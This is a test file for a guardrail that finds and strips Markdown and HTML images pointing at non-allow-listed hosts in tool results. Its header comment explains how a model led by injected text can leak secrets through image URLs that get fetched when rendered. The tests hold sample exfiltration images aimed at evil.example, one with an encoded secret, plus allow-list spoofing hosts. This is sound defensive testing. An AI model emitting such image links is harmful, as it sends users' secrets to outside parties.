// Images from hosts not allowed (guardrails.hiddenText.imageHosts): a host rendering an answer fetches
// them at once, so a model led to put secrets in the URL sends them out. Found as hidden text of kind
// image, whatever the allow-list does not name; before 2026-12-06 they passed every action.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ConfigError, parseConfig } from '../../../src/config/load.js';
import { HiddenTextScanner } from '../../../src/policy/hidden-text.js';
import { HiddenTextGuard } from '../../../src/policy/hidden-text-guard.js';
import { walkResult } from '../../../src/policy/hidden-text-walk.js';
import { TenantPolicy, ALLOW_ALL } from '../../../src/policy/tenant-policy.js';

const scanner = new HiddenTextScanner([]);
const images = (s: string, sc = scanner) => sc.scan(s)?.counts.image ?? 0;

describe('images from outside hosts', () => {
  it('finds inline Markdown images, HTML images and reference images to an outside host; strip replaces each', () => {
    const leak = 'Done. ![status](https://evil.example/log?q=c2VjcmV0IGtleQ== "ok")';
    assert.equal(images(leak), 1);
    assert.equal(scanner.scan(leak)?.clean, 'Done. [removed]');
    assert.equal(images('![a](<//evil.example/x y>) <img alt=x SRC="http://evil.example/p?d=1"> <img src=https://evil.example/z>'), 3);
    const ref = 'See ![chart][c] here.\n\n[c]: https://evil.example/?q=secret';
    assert.equal(images(ref), 1);
    assert.equal(scanner.scan(ref)?.clean, 'See ![chart][c] here.\n\n[removed]');
    assert.equal(images('![Logo]\n[logo]: https://evil.example/l.png'), 1);
  });

  it('leaves what reaches no other host, links a person must click, and hosts the allow-list names', () => {
    for (const s of ['![x](data:image/png;base64,iVBORw0KGgo=)', '![x](./chart.png)', '[docs](https://evil.example/?q=1)', '<img src="/local.png">', 'a ![ b', '[c]: https://evil.example/ unused']) {
      assert.equal(scanner.scan(s), undefined, s);
    }
    const allowing = new HiddenTextScanner([], 'iu', ['img.shields.io', '*.githubusercontent.com']);
    assert.equal(images('![b](https://img.shields.io/badge/x) ![c](https://raw.githubusercontent.com/a.png)', allowing), 0);
    assert.equal(images('![b](https://img.shields.io.evil.example/x) ![c](https://githubusercontent.com.evil.example/a.png)', allowing), 2);
    assert.equal(images('![b](https://evil.example/x)', new HiddenTextScanner([], 'iu', ['*'])), 0);
  });

  it('an image inside an HTML comment is markup (not fetched), counted once', () => {
    assert.deepEqual(scanner.scan('a <!-- ![x](https://evil.example/) --> b')?.counts.image, 0);
  });

  it('imageHosts is configured per endpoint and per tenant, and checked; the configured action applies', () => {
    const tenant = (hiddenText?: Record<string, unknown>) => new TenantPolicy({ ...ALLOW_ALL, name: 't', ...(hiddenText ? { guardrails: { hiddenText } } : {}) } as never);
    const guard = new HiddenTextGuard({ definitions: 'off', results: 'strip', patterns: [], imageHosts: ['ok.example'] }, '/mcp');
    const result = { content: [{ type: 'text', text: '![a](https://ok.example/a.png) ![b](https://evil.example/?q=k)' }] };
    const walked = guard.for(tenant())!.scanResult(result)!;
    assert.deepEqual(walked.findings, [{ kind: 'image', path: 'content[0].text', count: 1 }]);
    assert.equal((walked.clean as any).content[0].text, '![a](https://ok.example/a.png) [removed]');
    assert.equal(guard.for(tenant({ imageHosts: ['*'] }))!.scanResult(result), undefined);
    assert.equal(walkResult(new HiddenTextScanner([]), result).findings[0]?.count, 2);
    const problems = (imageHosts: unknown): string[] => {
      try {
        parseConfig({ upstreams: [{ name: 'u', transport: 'stdio', command: 'node' }], endpoints: [{ path: '/mcp', upstreams: ['u'], guardrails: { hiddenText: { results: 'strip', imageHosts } } }] }, 'test.yaml', {});
        return [];
      } catch (err) {
        assert.ok(err instanceof ConfigError);
        return err.problems;
      }
    };
    assert.deepEqual(problems(['img.example.com', '*.example.org', '*']), []);
    assert.match(problems(['https://evil.example/'])[0]!, /^endpoints\[0\]\.guardrails\.hiddenText\.imageHosts\[0\]: a host name/);
  });
});
